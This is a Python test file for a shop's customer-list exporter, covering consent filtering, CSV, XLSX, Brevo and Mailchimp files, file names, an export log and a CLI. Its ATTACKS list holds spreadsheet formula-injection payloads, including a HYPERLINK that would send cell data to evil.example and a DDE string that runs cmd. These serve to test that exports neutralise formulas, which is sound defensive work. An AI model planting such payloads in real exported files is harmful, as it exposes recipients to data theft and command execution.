"""List exports: consent filter, formula neutralisation, CSV/XLSX/Brevo/Mailchimp files, the
export log, and ``python -m metrics segment``. The people are the hand-computed shop of
tests/metrics/test_segment.py (1, 2 and 6 accept emails; 3 refuses, 4 is suppressed, 5 was never
asked)."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

import store
from exports import (
    EXPORT_FORMATS,
    build_export,
    consenting,
    csv_bytes,
    export_counts,
    export_log,
    log_export,
    needs_contacts,
    neutralise_formulas,
    xlsx_bytes,
)
from exports.names import rejects_file_name, report_file_name, safe_stem
from metrics.cli import main
from metrics.segment import (
    SegmentFilter,
    describe,
    segment_contacts,
    segment_customers,
    segment_totals,
)
from tests.metrics.test_segment import insert_people

BOM = b"\xef\xbb\xbf"
WHEN = datetime(2024, 3, 11, 9, 30)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def shop(con):
    insert_people(con)
    return con


@pytest.fixture
def people(shop):
    return segment_customers(shop)


def lines(data: bytes) -> list[str]:
    assert data.startswith(BOM)
    return data[len(BOM):].decode("utf-8").split("\r\n")


def hostile(people: pd.DataFrame) -> pd.DataFrame:
    """The shop's consenting people with attack strings as first names."""
    out = people[people["email_marketing"]].head(3).copy()
    out["first_name"] = pd.Series(ATTACKS[:3], index=out.index, dtype="str")
    out["last_name"] = pd.Series(ATTACKS[3:], index=out.index, dtype="str")
    return out


def test_consent_filter_and_count_left_out(people):
    kept, left_out = consenting(people)
    assert kept["customer_id"].tolist() == [1, 2, 6]
    assert left_out == 3
    everyone, none_left = consenting(people, consent_only=False)
    assert len(everyone) == 6
    assert none_left == 0


def test_csv_utf8_bom_semicolon_consenting_only(people):
    export = build_export(people, "csv", segments=("at_risk",), when=WHEN)
    assert (export.rows, export.left_out, export.unusable) == (3, 3, 0)
    assert export.file_name == "clients_a_risque_reguliers_2024-03-11.csv"
    assert export.mime == "text/csv"
    rows = lines(export.data)
    assert rows[0] == (
        "N° client;Prénom;Nom;E-mail;Téléphone;Code postal;Ville;Segment;Commandes;"
        "Dépense nette (€);Dernière commande;Accepte les e-mails"
    )
    assert rows[1] == (
        "1;Prénom1;Nom1;client1@example.fr;+33612345671;69001;Lyon;Champions;5;145,00;"
        "05/03/2024;oui"
    )
    assert [row.split(";")[0] for row in rows[1:-1]] == ["1", "2", "6"]
    assert rows[3].endswith(";Sans achat;0;0,00;;oui")  # a contact who never bought
    assert rows[-1] == ""


def test_csv_comma_and_english(people):
    export = build_export(people, "csv", consent_only=False, sep=",", lang="en", when=WHEN)
    rows = lines(export.data)
    assert rows[0].startswith("Customer no.,First name,Last name,Email,")
    assert rows[1].endswith(",Champions,5,145.00,2024-03-05,yes")
    assert (export.rows, export.left_out) == (6, 0)


@pytest.mark.parametrize(("segments", "fmt", "lang", "name"), [
    (("at_risk",), "csv", "fr", "clients_a_risque_reguliers_2026-11-30.csv"),
    (("at_risk",), "csv", "en", "customers_at_risk_regulars_2026-11-30.csv"),
    (("cant_lose", "about_to_sleep"), "xlsx", "fr",
     "clients_a_risque_a_ne_pas_perdre_en_train_de_s_endormir_2026-11-30.xlsx"),
    (("cant_lose",), "xlsx", "en", "customers_at_risk_can_t_lose_them_2026-11-30.xlsx"),
    (("need_attention", "none"), "mailchimp", "fr",
     "clients_a_surveiller_sans_achat_2026-11-30_mailchimp.csv"),
    ((), "brevo", "en", "customers_2026-11-30_brevo.csv"),
    (("Fidèles d'été",), "csv", "fr", "clients_fideles_d_ete_2026-11-30.csv"),  # custom segment
])
def test_export_file_names_in_the_owners_language(people, segments, fmt, lang, name):
    export = build_export(people, fmt, segments=segments, lang=lang, when=datetime(2026, 11, 30))
    assert export.file_name == name


def test_file_names_are_plain_ascii_without_spaces():
    assert report_file_name("2026-W46", "xlsx") == "rapport_semaine_2026-W46.xlsx"
    assert report_file_name("2026-W46", "html", "en") == "weekly_report_2026-W46.html"
    assert rejects_file_name("Ventes été 2025 (copie).CSV") == "rejets_ventes_ete_2025_copie.csv"
    assert rejects_file_name("import 3", "en") == "rejects_import_3.csv"
    assert rejects_file_name("«».csv") == "rejets_fichier.csv"
    assert safe_stem("  Œuvres à l’Été — N°2 ") == "oeuvres_a_l_ete_n_2"


def test_brevo_layout(people):
    export = build_export(people, "brevo", when=WHEN)
    assert export.file_name == "clients_2024-03-11_brevo.csv"
    assert lines(export.data)[:3] == [
        "EMAIL;FIRSTNAME;LASTNAME;SMS",
        "client1@example.fr;Prénom1;Nom1;+33612345671",  # E.164 kept as Brevo requires it
        "client2@example.fr;Prénom2;Nom2;+33612345672",
    ]


def test_mailchimp_layout_always_comma(people):
    export = build_export(people, "mailchimp", sep=";", when=WHEN)
    rows = lines(export.data)
    assert rows[0] == "Email Address,First Name,Last Name,Address,Phone Number,Tags"
    assert rows[1] == "client1@example.fr,Prénom1,Nom1,Lyon  69001,+33612345671,Champions"
    assert rows[3] == "client6@example.fr,Prénom6,Nom6,Lyon  69002,+33612345676,Sans achat"


def test_services_drop_who_they_cannot_take(people):
    people = people.copy()
    people.loc[people["customer_id"] == 3, "email"] = pd.NA
    people.loc[people["customer_id"] == 3, "phone"] = pd.NA
    people.loc[people["customer_id"] == 5, "email"] = pd.NA
    mailchimp = build_export(people, "mailchimp", consent_only=False, when=WHEN)
    assert (mailchimp.rows, mailchimp.unusable) == (4, 2)  # 3 and 5 have no email
    brevo = build_export(people, "brevo", consent_only=False, when=WHEN)
    assert (brevo.rows, brevo.unusable) == (5, 1)  # 5 keeps a phone for SMS
    standard = build_export(people, "csv", consent_only=False, when=WHEN)
    assert (standard.rows, standard.unusable) == (6, 0)


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
@pytest.mark.parametrize("consent_only", [True, False])
def test_the_counts_said_before_the_file_are_the_files(shop, fmt, consent_only):
    """The Segments page says who the file will hold before it is built (at the click), from
    the list's totals counted in the database."""
    shop.execute("update customers set email = null, phone = null where customer_id = 3")
    shop.execute("update customers set email = null where customer_id = 5")
    contacts = segment_contacts(shop)
    assert contacts == {"with_email": 4, "with_email_or_phone": 5}
    built = build_export(segment_customers(shop), fmt, consent_only=consent_only, when=WHEN)
    said = export_counts(fmt, consent_only, segment_totals(shop),
                         contacts if needs_contacts(fmt, consent_only) else None)
    everyone = {"csv": (6, 0, 0), "xlsx": (6, 0, 0), "brevo": (5, 0, 1), "mailchimp": (4, 0, 2)}
    assert said == (built.rows, built.left_out, built.unusable) == (
        (3, 3, 0) if consent_only else everyone[fmt])


def test_neutralise_formulas():
    table = pd.DataFrame(
        {
            "text": [*ATTACKS, "Zoé = moi", "+33612345678", "+33 6 12", None],
            "n": range(10),
        }
    ).astype({"text": "str"})
    safe = neutralise_formulas(table)
    assert safe["text"].iloc[:6].tolist() == ["'" + attack for attack in ATTACKS]
    assert safe["text"].iloc[6:9].tolist() == ["Zoé = moi", "+33612345678", "'+33 6 12"]
    assert pd.isna(safe["text"].iloc[9])
    assert safe["n"].tolist() == list(range(10))
    assert table["text"].iloc[0] == ATTACKS[0]  # the caller's table is left alone


@pytest.mark.parametrize(
    ("fmt", "sep", "first", "last"),
    [("csv", ";", "Prénom", "Nom"), ("brevo", ";", "FIRSTNAME", "LASTNAME"),
     ("mailchimp", ",", "First Name", "Last Name")],
)
def test_csv_files_neutralise_every_attack(people, fmt, sep, first, last):
    data = build_export(hostile(people), fmt, when=WHEN).data
    parsed = pd.read_csv(io.BytesIO(data), sep=sep, encoding="utf-8-sig", dtype=str)
    assert parsed[first].tolist() == ["'" + attack for attack in ATTACKS[:3]]
    assert parsed[last].tolist() == ["'" + attack for attack in ATTACKS[3:]]


def test_xlsx_has_no_formula_and_neutralised_text(people):
    export = build_export(hostile(people), "xlsx", when=WHEN)
    assert export.file_name.endswith(".xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["N° client", "Prénom", "Nom"]
    assert [row[1] for row in values[1:]] == ["'" + attack for attack in ATTACKS[:3]]
    # XlsxWriter stores a carriage return as OOXML's _x000D_ escape, which openpyxl leaves as is
    last_names = [row[2].replace("_x000D_", "\r") for row in values[1:]]
    assert last_names == ["'" + attack for attack in ATTACKS[3:]]
    assert values[1][0] == 1  # numbers stay numbers
    assert values[1][9] == 145.0
    assert values[1][10] == datetime(2024, 3, 5)
    assert sheet.cell(2, 11).number_format == "dd/mm/yyyy"


def test_writers_keep_strings_that_look_like_formulas_as_text():
    table = pd.DataFrame({"a": ["=1+1", "http://x.example", "0612"]}).astype("str")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "Clients"))).active
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == ["'=1+1", "http://x.example", "0612"]
    assert [sheet.cell(row, 1).data_type for row in (2, 3, 4)] == ["s", "s", "s"]
    assert sheet.cell(3, 1).hyperlink is None
    with pytest.raises(ValueError, match="sep"):
        csv_bytes(table, sep="|")


def test_export_log_rows(shop, people):
    asked = SegmentFilter(segments=("champions", "none"), consent_only=False)
    first = build_export(people, "csv", when=WHEN)
    second = build_export(segment_customers(shop, asked), "brevo", consent_only=False,
                          segments=asked.segments, when=datetime(2024, 3, 12, 8, 0))
    assert log_export(shop, first, describe(SegmentFilter())) == 1
    assert log_export(shop, second, describe(asked), asked.to_json()) == 2
    log = export_log(shop)
    assert log.drop(columns="export_id").to_dict("records") == [
        {
            "exported_at": pd.Timestamp("2024-03-12 08:00"),
            "description": "Segments : Champions, Sans achat",
            "format": "brevo",
            "consent_only": False,
            "rows_exported": 2,
            "rows_left_out": 0,
            "file_name": "clients_champions_sans_achat_2024-03-12_brevo.csv",
        },
        {
            "exported_at": pd.Timestamp("2024-03-11 09:30"),
            "description": "Toutes les personnes de la base (clients et contacts sans achat)",
            "format": "csv",
            "consent_only": True,
            "rows_exported": 3,
            "rows_left_out": 3,
            "file_name": "clients_2024-03-11.csv",
        },
    ]
    saved = shop.execute("select filter from export_log where export_id = 2").fetchone()[0]
    assert '"segments": ["champions", "none"]' in saved


@pytest.fixture
def shop_db(tmp_path):
    path = tmp_path / "shop.duckdb"
    connection = store.connect(path)
    insert_people(connection)
    connection.close()
    return str(path)


def test_cli_segment_export_is_written_and_logged(capsys, shop_db, tmp_path):
    out = tmp_path / "a_relancer.csv"
    code = main(["segment", "--db", shop_db, "--segment", "potential_loyalists", "--segment",
                 "promising", "--format", "csv", "--out", str(out)])
    assert code == 0
    assert capsys.readouterr().out == (
        f"1 personne exportée dans {out} (Segments : Fidèles potentiels, Prometteurs) ; 2 "
        "laissées de côté faute de consentement aux e-mails.\n"
    )
    rows = lines(out.read_bytes())
    assert [row.split(";")[0] for row in rows[1:-1]] == ["2"]  # 3 refuses, 4 is suppressed
    connection = store.connect(shop_db)
    try:
        log = export_log(connection)
    finally:
        connection.close()
    assert log[["description", "format", "rows_exported", "rows_left_out"]].values.tolist() == [
        ["Segments : Fidèles potentiels, Prometteurs", "csv", 1, 2]
    ]
    assert main(["segment", "--db", shop_db, "--segment", "potential_loyalists", "--segment",
                 "promising", "--format", "csv", "--out", str(out), "--lang", "en"]) == 0
    assert capsys.readouterr().out == (
        f"1 person exported to {out} (Segments: Potential loyalists, Promising); 2 left out for "
        "lack of email consent.\n"
    )


def test_cli_segment_everyone_for_mailchimp_and_table(capsys, shop_db, tmp_path):
    out = tmp_path / "tous.csv"
    code = main(["segment", "--db", shop_db, "--no-consent-only", "--format", "mailchimp",
                 "--out", str(out)])
    assert code == 0
    assert len(lines(out.read_bytes())) == 8  # header, 6 people, final line end
    assert main(["segment", "--db", shop_db, "--segment", "champions"]) == 0
    printed = capsys.readouterr().out
    assert "Personnes : 1" in printed.splitlines()
    assert "client1@example.fr" in printed


def test_cli_segment_refusals(capsys, shop_db):
    assert main(["segment", "--db", shop_db, "--format", "xlsx"]) == 2
    assert "--out" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        main(["kpis", "--db", shop_db, "--format", "brevo"])
    assert exit_info.value.code == 2
    with pytest.raises(SystemExit):
        main(["segment", "--db", shop_db, "--segment", "vip"])
